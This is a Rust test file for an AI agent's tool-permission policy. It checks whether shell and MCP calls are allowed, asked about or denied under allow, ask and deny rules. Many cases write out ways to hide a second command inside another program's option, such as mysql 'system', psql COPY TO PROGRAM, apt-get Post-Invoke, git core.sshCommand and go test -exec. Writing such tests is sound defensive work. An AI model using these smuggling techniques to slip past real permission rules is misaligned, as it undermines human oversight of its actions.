        name: "an unprovable line asks in default mode even with a matching allow",
        mode: DF,
        rules: &[("allow", "shell(eval *)")],
        tool: "shell",
        subject: S::Cmd("eval ls"),
        expect: Q,
    },
    Case {
        name: "an unprovable line runs in bypass when no shell rule denies or asks",
        mode: BY,
        rules: &[("deny", "read_file(./secrets/**)")],
        tool: "shell",
        subject: S::Cmd("echo ls | sh"),
        expect: A,
    },
    Case {
        name: "a bare allow shell rule runs an unprovable line",
        mode: DF,
        rules: &[("allow", "shell")],
        tool: "shell",
        subject: S::Cmd("echo ls | sh"),
        expect: A,
    },
    Case {
        name: "a bare allow shell rule does not beat a deny on an unprovable line",
        mode: DF,
        rules: &[("allow", "shell"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("a=rm; $a v"),
        expect: D,
    },
    Case {
        name: "doas does not hide the command",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("doas -u root rm v"),
        expect: D,
    },
    Case {
        name: "a deny on the wrapper itself matches",
        mode: BY,
        rules: &[("deny", "shell(sudo *)")],
        tool: "shell",
        subject: S::Cmd("timeout 5 sudo ls"),
        expect: D,
    },
    Case {
        name: "a zsh script is unprovable",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("zsh -c 'ls'"),
        expect: D,
    },
    Case {
        name: "python running a script file is analyzed as a program",
        mode: DF,
        rules: &[
            ("allow", "shell(python3 scripts/*)"),
            ("deny", "shell(rm *)"),
        ],
        tool: "shell",
        subject: S::Cmd("python3 scripts/check.py --fast"),
        expect: A,
    },
    Case {
        name: "awk without commands in its program is analyzed as a program",
        mode: DF,
        rules: &[("allow", "shell(awk *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("awk -F: '{print $1}' /etc/passwd"),
        expect: A,
    },
    Case {
        name: "sed without the e command is analyzed as a program",
        mode: DF,
        rules: &[("allow", "shell(sed *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("sed -i 's/error/warning/g' src/a.rs"),
        expect: A,
    },
    Case {
        name: "git with a data-only -c key is analyzed as a program",
        mode: DF,
        rules: &[("allow", "shell(git *)"), ("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("git -c user.name=bot -c color.ui=false log --oneline"),
        expect: A,
    },
    // --- other tools --------------------------------------------------------------------------
    Case {
        name: "mcp server wildcard allows its tools",
        mode: DF,
        rules: &[("allow", "mcp__github__*")],
        tool: "mcp__github__create_issue",
        subject: S::Json("{\"title\":\"x\"}"),
        expect: A,
    },
    // MCP tools whose server hints read-only (`Mcp`: effect class read_only) never get the
    // read-only auto-allow.
    Case {
        name: "default mode asks for an mcp tool hinted read-only",
        mode: DF,
        rules: &[],
        tool: "mcp__fs__read_text_file",
        subject: S::Mcp("{}"),
        expect: Q,
    },
    Case {
        name: "accept_edits asks for an mcp tool hinted read-only",
        mode: AE,
        rules: &[],
        tool: "mcp__fs__read_text_file",
        subject: S::Mcp("{}"),
        expect: Q,
    },
    Case {
        name: "read_only mode denies an mcp tool hinted read-only",
        mode: RO,
        rules: &[],
        tool: "mcp__fs__read_text_file",
        subject: S::Mcp("{}"),
        expect: D,
    },
    Case {
        name: "an allow rule lets an mcp tool hinted read-only run in read_only mode",
        mode: RO,
        rules: &[("allow", "mcp__fs__read_text_file")],
        tool: "mcp__fs__read_text_file",
        subject: S::Mcp("{}"),
        expect: A,
    },
    Case {
        name: "bypass runs an mcp tool",
        mode: BY,
        rules: &[],
        tool: "mcp__fs__write_file",
        subject: S::Json("{}"),
        expect: A,
    },
    Case {
        name: "mcp server wildcard does not cover another server",
        mode: DF,
        rules: &[("allow", "mcp__github__*")],
        tool: "mcp__gitlab__create_issue",
        subject: S::Json("{}"),
        expect: Q,
    },
    Case {
        name: "mcp deny beats a broader allow",
        mode: DF,
        rules: &[("allow", "mcp__*"), ("deny", "mcp__github__delete_*")],
        tool: "mcp__github__delete_repo",
        subject: S::Json("{}"),
        expect: D,
    },
    Case {
        name: "argument glob on other tools matches the json",
        mode: DF,
        rules: &[("allow", "mcp__db__query(*\"readonly\":true*)")],
        tool: "mcp__db__query",
        subject: S::Json("{\"readonly\":true,\"sql\":\"select 1\"}"),
        expect: A,
    },
    Case {
        name: "argument glob on other tools that does not match",
        mode: DF,
        rules: &[("allow", "mcp__db__query(*\"readonly\":true*)")],
        tool: "mcp__db__query",
        subject: S::Json("{\"sql\":\"drop table\"}"),
        expect: Q,
    },
    Case {
        name: "session rule allows the exact command",
        mode: DF,
        rules: &[("allow-session", "shell(npm install)")],
        tool: "shell",
        subject: S::Cmd("npm install"),
        expect: A,
    },
    Case {
        name: "session allow does not beat a settings deny",
        mode: DF,
        rules: &[
            ("allow-session", "shell(npm install)"),
            ("deny", "shell(npm *)"),
        ],
        tool: "shell",
        subject: S::Cmd("npm install"),
        expect: D,
    },
    Case {
        name: "mysql -e with the system client command is unprovable",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("mysql -e 'system rm v'"),
        expect: D,
    },
    Case {
        name: "mariadb -e with \\! is unprovable",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("mariadb -e '\\! rm v'"),
        expect: D,
    },
    Case {
        name: "mysql --execute abbreviated is read as --execute",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("mysql --exec='system rm v'"),
        expect: D,
    },
    Case {
        name: "mysql without -e reads commands from standard input",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("mysql < dump.sql"),
        expect: D,
    },
    Case {
        name: "psql -c with \\! is unprovable",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("psql -c '\\! rm v'"),
        expect: D,
    },
    Case {
        name: "psql --command abbreviated is read as --command",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("psql --comm='\\! rm v'"),
        expect: D,
    },
    Case {
        name: "psql -o into a pipe is unprovable",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("psql -c 'select 1' -o '|rm v'"),
        expect: D,
    },
    Case {
        name: "dpkg --post-invoke is unprovable",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("dpkg --post-invoke='rm v' --configure -a"),
        expect: D,
    },
    Case {
        name: "apt-get -o can name a command (DPkg::Post-Invoke)",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("apt-get -o DPkg::Post-Invoke::='rm v' install x"),
        expect: D,
    },
    Case {
        name: "ruby -0e runs code (digits, then more switches)",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("ruby -0e 'File.delete \"v\"'"),
        expect: D,
    },
    Case {
        name: "an unknown wrapper running a denied command is denied",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("cgexec -g cpu:x rm v"),
        expect: D,
    },
    Case {
        name: "an unknown wrapper running a denied command by path is denied",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("daemonize /bin/rm v"),
        expect: D,
    },
    Case {
        name: "an unknown program's arguments naming another program are not denied",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("cgexec -g cpu:x ls v"),
        expect: Q,
    },
    Case {
        name: "an unknown program's --opt=VALUE holding a denied command is denied",
        mode: BY,
        rules: &[("deny", "shell(rm *)"), ("allow", "shell(frob *)")],
        tool: "shell",
        subject: S::Cmd("frob --hook='make && rm v'"),
        expect: D,
    },
    Case {
        name: "an unknown program's option value naming an asked command asks despite its allow rule",
        mode: DF,
        rules: &[("ask", "shell(git push *)"), ("allow", "shell(frob *)")],
        tool: "shell",
        subject: S::Cmd("frob --then='git push origin'"),
        expect: Q,
    },
    Case {
        name: "an unknown program's option value that names nothing denied is granted by its allow rule",
        mode: DF,
        rules: &[("deny", "shell(rm *)"), ("allow", "shell(frob *)")],
        tool: "shell",
        subject: S::Cmd("frob --format='%s (%d)' --level=3"),
        expect: A,
    },
    Case {
        name: "sort is known now: a file named rm is data",
        mode: DF,
        rules: &[("deny", "shell(rm *)"), ("allow", "shell(sort *)")],
        tool: "shell",
        subject: S::Cmd("sort -o out rm"),
        expect: A,
    },
    Case {
        name: "sort --compress-program needs the program allowed too",
        mode: DF,
        rules: &[("allow", "shell(sort *)")],
        tool: "shell",
        subject: S::Cmd("sort -S 1M --compress-program=gzip big"),
        expect: Q,
    },
    Case {
        name: "sort --compress-program with the program allowed is allowed",
        mode: DF,
        rules: &[("allow", "shell(sort *)"), ("allow", "shell(gzip *)")],
        tool: "shell",
        subject: S::Cmd("sort -S 1M --compress-program=gzip big"),
        expect: A,
    },
    Case {
        name: "split --filter with its command allowed is allowed",
        mode: DF,
        rules: &[("allow", "shell(split *)"), ("allow", "shell(gzip *)")],
        tool: "shell",
        subject: S::Cmd("split -b 1M --filter=gzip big"),
        expect: A,
    },
    Case {
        name: "split with a computed word that could be --filter is unprovable",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("split $opts big"),
        expect: D,
    },
    Case {
        name: "gcc -B runs compiler programs from a directory: unprovable",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("gcc -B. -c x.c"),
        expect: D,
    },
    Case {
        name: "cpio --rsh-command runs a command: unprovable",
        mode: BY,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("cpio -o -F x:y --rsh-command='rm v'"),
        expect: D,
    },
    Case {
        name: "a program known to read its arguments as data is not denied for naming rm",
        mode: DF,
        rules: &[("deny", "shell(rm *)"), ("allow", "shell(grep *)")],
        tool: "shell",
        subject: S::Cmd("grep -rn rm src"),
        expect: A,
    },
    Case {
        name: "echo of a denied command is only text",
        mode: DF,
        rules: &[("deny", "shell(rm *)"), ("allow", "shell(echo *)")],
        tool: "shell",
        subject: S::Cmd("echo rm v"),
        expect: A,
    },
    Case {
        name: "an unknown wrapper running a command an ask rule names asks",
        mode: DF,
        rules: &[("ask", "shell(git push *)"), ("allow", "shell(with-env *)")],
        tool: "shell",
        subject: S::Cmd("with-env git push"),
        expect: Q,
    },
    Case {
        name: "sqlite3 with SQL is allowed by a pattern rule",
        mode: DF,
        rules: &[("allow", "shell(sqlite3 *)")],
        tool: "shell",
        subject: S::Cmd("sqlite3 app.db 'select count(*) from users'"),
        expect: A,
    },
    Case {
        name: "sqlite3 with a showing dot-command is allowed",
        mode: DF,
        rules: &[("allow", "shell(sqlite3 *)")],
        tool: "shell",
        subject: S::Cmd("sqlite3 app.db .tables"),
        expect: A,
    },
    Case {
        name: "sqlite3 SQL calling edit() is unprovable",
        mode: DF,
        rules: &[("allow", "shell(sqlite3 *)")],
        tool: "shell",
        subject: S::Cmd("sqlite3 app.db \"select edit('x', 'rm v')\""),
        expect: Q,
    },
    Case {
        name: "sqlite3 without commands reads standard input",
        mode: DF,
        rules: &[("allow", "shell(sqlite3 *)")],
        tool: "shell",
        subject: S::Cmd("sqlite3 app.db"),
        expect: Q,
    },
    Case {
        name: "psql -c with SQL is allowed by a pattern rule",
        mode: DF,
        rules: &[("allow", "shell(psql *)")],
        tool: "shell",
        subject: S::Cmd("psql -d app -c 'select 1'"),
        expect: A,
    },
    Case {
        name: "psql COPY … PROGRAM is unprovable",
        mode: DF,
        rules: &[("allow", "shell(psql *)")],
        tool: "shell",
        subject: S::Cmd("psql -c \"copy t to program 'touch m'\""),
        expect: Q,
    },
    Case {
        name: "mysql -e with SQL is allowed by a pattern rule",
        mode: DF,
        rules: &[("allow", "shell(mysql *)")],
        tool: "shell",
        subject: S::Cmd("mysql -uroot -D app -e 'select 1'"),
        expect: A,
    },
    Case {
        name: "perl with a script file is allowed by a pattern rule",
        mode: DF,
        rules: &[("allow", "shell(perl *)")],
        tool: "shell",
        subject: S::Cmd("perl -w tools/gen.pl out.txt"),
        expect: A,
    },
    Case {
        name: "perl -lne code is unprovable",
        mode: DF,
        rules: &[("allow", "shell(perl *)")],
        tool: "shell",
        subject: S::Cmd("perl -lne 'print' f"),
        expect: Q,
    },
    Case {
        name: "gawk -i inplace with a program without system is allowed",
        mode: DF,
        rules: &[("allow", "shell(gawk *)")],
        tool: "shell",
        subject: S::Cmd("gawk -i inplace '{print $1}' f.txt"),
        expect: A,
    },
    Case {
        name: "git grep without -O is allowed",
        mode: DF,
        rules: &[("allow", "shell(git grep *)")],
        tool: "shell",
        subject: S::Cmd("git grep -n foo -- src"),
        expect: A,
    },
    Case {
        name: "npm run is allowed by a pattern rule",
        mode: DF,
        rules: &[("allow", "shell(npm *)")],
        tool: "shell",
        subject: S::Cmd("npm run build"),
        expect: A,
    },
    Case {
        name: "npm exec is unprovable",
        mode: DF,
        rules: &[("allow", "shell(npm *)")],
        tool: "shell",
        subject: S::Cmd("npm --prefix . exec eslint"),
        expect: Q,
    },
    Case {
        name: "git clone -c with a data key stays allowed",
        mode: DF,
        rules: &[("allow", "shell(git clone *)")],
        tool: "shell",
        subject: S::Cmd("git clone -c user.name=a https://x.example/r.git"),
        expect: A,
    },
    Case {
        name: "git clone -c core.sshCommand is unprovable",
        mode: DF,
        rules: &[("allow", "shell(git clone *)")],
        tool: "shell",
        subject: S::Cmd("git clone -c core.sshCommand=x ssh://x/y"),
        expect: Q,
    },
    Case {
        name: "a quoted here-document into a workspace file is allowed",
        mode: DF,
        rules: &[("allow", "shell(cat *)")],
        tool: "shell",
        subject: S::Cmd("cat <<'EOF' > notes.txt\nhello\nEOF"),
        expect: A,
    },
    Case {
        name: "an unquoted here-document without expansions is allowed",
        mode: DF,
        rules: &[("allow", "shell(cat *)")],
        tool: "shell",
        subject: S::Cmd("cat <<EOF\nhello \\\nworld\nEOF"),
        expect: A,
    },
    Case {
        name: "a here-document with a $'…' delimiter is unprovable",
        mode: DF,
        rules: &[("allow", "shell(cat *)")],
        tool: "shell",
        subject: S::Cmd("cat <<$'EOF'\nhello\nEOF"),
        expect: Q,
    },
    Case {
        name: "cargo --config can name a runner or wrapper",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm v\"' run"),
        expect: D,
    },
    Case {
        name: "go test -exec names a program to run",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("go test -exec 'rm v' ./..."),
        expect: D,
    },
    Case {
        name: "rustup run runs the command after the toolchain",
        mode: DF,
        rules: &[("deny", "shell(rm *)")],
        tool: "shell",
        subject: S::Cmd("rustup run stable rm v"),
        expect: D,
    },
    Case {
        name: "cargo with a subcommand stays allowed",
        mode: DF,
        rules: &[("allow", "shell(cargo test *)")],
        tool: "shell",
        subject: S::Cmd("cargo test -p keel-tools --lib"),
        expect: A,
    },
];

fn build(case: &Case<'_>) -> (Policy, Subject, EffectClass) {
    let mut policy = Policy::new(case.mode);
    for (action, pattern) in case.rules {
        let (action, source) = match *action {
            "allow" => (RuleAction::Allow, RuleSource::Settings),
            "allow-session" => (RuleAction::Allow, RuleSource::Session),
            "ask" => (RuleAction::Ask, RuleSource::Agent),
            "deny" => (RuleAction::Deny, RuleSource::Settings),
            other => panic!("bad action {other}"),
        };
        policy
            .rules
            .push(Rule::new(action, pattern, source).unwrap());
    }
    let paths = |s: &str, write: bool| {
        s.split('|')
            .map(|p| {
                let mut a = PathAccess::read(p);
                a.write = write;
                a
            })
            .collect()
    };
    let (subject, effect) = match case.subject {
        S::Cmd(c) => (resolved_command(c), EffectClass::SideEffecting),
        S::Read(p) => (Subject::Paths(paths(p, false)), EffectClass::ReadOnly),
        S::Write(p) => (Subject::Paths(paths(p, true)), EffectClass::IdempotentWrite),
        S::Json(j) => (Subject::Other(j.to_owned()), EffectClass::SideEffecting),
        S::Mcp(j) => (Subject::Other(j.to_owned()), EffectClass::ReadOnly),
    };
    (policy, subject, effect)
}

/// The subject of shell line `line` as authorization sees it: resolved against a workspace (an
/// empty temporary directory).
fn resolved_command(line: &str) -> Subject {
    let dir = tempfile::tempdir().unwrap();
    let ws = crate::workspace::Workspace::new(dir.path()).unwrap();
    crate::registry::resolve_subject(Subject::command(line, "."), &ws)
}

#[test]
fn policy_table() {
    assert!(CASES.len() >= 60, "only {} cases", CASES.len());
    let mut failures = Vec::new();
    for case in CASES {
        let (policy, subject, effect) = build(case);
        let decision = policy.evaluate(&PolicyRequest {
            tool: case.tool,
            effect,
            subject: &subject,
        });
        if decision.verdict != case.expect {
            failures.push(format!(
                "{}: expected {:?}, got {:?} ({})",
                case.name, case.expect, decision.verdict, decision.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn deny_reason_names_the_rule_and_the_part() {
    let policy = Policy::new(PermissionMode::Default)
        .with_rule(Rule::allow("shell(ls *)").unwrap())
        .with_rule(Rule::deny("shell(rm *)").unwrap());
    let subject = Subject::command("ls && rm -rf x", ".");
    let d = policy.evaluate(&PolicyRequest {
        tool: "shell",
        effect: EffectClass::SideEffecting,
        subject: &subject,
    });
    assert_eq!(d.verdict, Verdict::Deny);
    assert!(d.reason.contains("deny shell(rm *)"), "{}", d.reason);
    assert!(d.reason.contains("rm -rf x"), "{}", d.reason);
    assert_eq!(d.rule.as_deref(), Some("deny shell(rm *)"));
}

#[test]
fn session_rules_allow_the_same_compound_command_again() {
    let subject = Subject::command("cargo fmt && cargo test -p 'a*b'", ".");
    let mut policy = Policy::new(PermissionMode::Default);
    let before = policy.evaluate(&PolicyRequest {
        tool: "shell",
        effect: EffectClass::SideEffecting,
        subject: &subject,
    });
    assert_eq!(before.verdict, Verdict::Ask);
    policy.rules.extend(session_rules_for("shell", &subject));
    let after = policy.evaluate(&PolicyRequest {
        tool: "shell",
        effect: EffectClass::SideEffecting,
        subject: &subject,
    });
    assert_eq!(after.verdict, Verdict::Allow, "{}", after.reason);
    // The star in the approved argument is literal, not a wildcard.
    let other = Subject::command("cargo test -p aXXb", ".");
    let d = policy.evaluate(&PolicyRequest {
        tool: "shell",
        effect: EffectClass::SideEffecting,
        subject: &other,
    });
    assert_eq!(d.verdict, Verdict::Ask);
}

#[test]
fn malformed_rules_are_errors() {
    for bad in ["", "shell(", "shell()", "(x)", "read_file(./[)"] {
        assert!(
            matches!(Rule::allow(bad), Err(ToolsError::InvalidRule { .. })),
            "{bad:?} should not parse"
        );
    }
}

#[test]
fn permission_mode_parses_snake_and_kebab_case() {
    assert_eq!(
        PermissionMode::parse("accept-edits").unwrap(),
        PermissionMode::AcceptEdits
    );
    assert_eq!(
        PermissionMode::parse("read_only").unwrap(),
        PermissionMode::ReadOnly
    );
    assert!(PermissionMode::parse("yolo").is_err());
}

#[test]
fn arbitrary_command_lines_never_panic_and_unprovable_ones_are_never_allowed() {
    const ALPHABET: &[&str] = &[
        "echo",
        " ",
        "'",
        "\"",
        "\\",
        "$(",
        "(",
        ")",
        "`",
        ";",
        "&",
        "|",
        ">",
        "<",
        "\n",
        "#",
        "*",
        "=",
        "-i",
        "bash -c ",
        "find -exec ",
        "xargs ",
        "timeout 5 ",
        "env -S ",
        "é",
        "{",
        "}",
        "/",
        "..",
        "secrets/x",
        "2>&1",
    ];
    let policy = Policy::new(PermissionMode::Default)
        .with_rule(Rule::allow("shell(echo *)").unwrap())
        .with_rule(Rule::deny("read_file(./secrets/**)").unwrap());
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    for _ in 0..20_000 {
        let mut line = String::new();
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let len = (seed % 12) as usize;
        for _ in 0..len {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            line.push_str(ALPHABET[(seed % ALPHABET.len() as u64) as usize]);
        }
        let subject = Subject::command(&line, "sub");
        let d = policy.evaluate(&PolicyRequest {
            tool: "shell",
            effect: EffectClass::SideEffecting,
            subject: &subject,
        });
        if shell::analyze(&line).unprovable().is_some() {
            assert_ne!(d.verdict, Verdict::Allow, "{line:?}: {}", d.reason);
        }
        let _ = session_rules_for("shell", &subject);
    }
}

#[test]
fn session_rules_for_a_line_that_is_not_literal_allow_exactly_that_line() {
    let subject = Subject::command("RUST_LOG=debug cargo test", ".");
    let mut policy = Policy::new(PermissionMode::Default);
    let decide = |policy: &Policy, line: &str| {
        let subject = Subject::command(line, ".");
        policy
            .evaluate(&PolicyRequest {
                tool: "shell",
                effect: EffectClass::SideEffecting,
                subject: &subject,
            })
            .verdict
    };
    assert_eq!(decide(&policy, "RUST_LOG=debug cargo test"), Verdict::Ask);
    policy.rules.extend(session_rules_for("shell", &subject));
    assert_eq!(decide(&policy, "RUST_LOG=debug cargo test"), Verdict::Allow);
    assert_eq!(
        decide(&policy, "RUST_LOG=debug cargo test -p x"),
        Verdict::Ask
    );
    assert_eq!(
        decide(&policy, "RUST_LOG=debug cargo test; touch m"),
        Verdict::Ask
    );
}

#[test]
fn huge_and_deeply_nested_lines_are_decided_without_overflow() {
    let policy = Policy::new(PermissionMode::Default).with_rule(Rule::deny("shell(rm *)").unwrap());
    let lines = [
        format!("{}rm v{}", "$(".repeat(3000), ")".repeat(3000)),
        format!("{}rm v{}", "(".repeat(5000), ")".repeat(5000)),
        format!("{}rm v{}", "{ ".repeat(3000), "; }".repeat(3000)),
        format!(
            "cat <<EOF\n{}EOF\nrm v",
            format!("{}\n", "x".repeat(80)).repeat(2000)
        ),
        format!("cat <<'EOF'\n{}EOF\nrm v", "$(x) `y`\n".repeat(2000)),
        format!("echo {}; rm v", "a ".repeat(20_000)),
    ];
    for line in &lines {
        let subject = Subject::command(line, ".");
        let d = policy.evaluate(&PolicyRequest {
            tool: "shell",
            effect: EffectClass::SideEffecting,
            subject: &subject,
        });
        assert_eq!(d.verdict, Verdict::Deny, "{}…: {}", &line[..20], d.reason);
    }
}
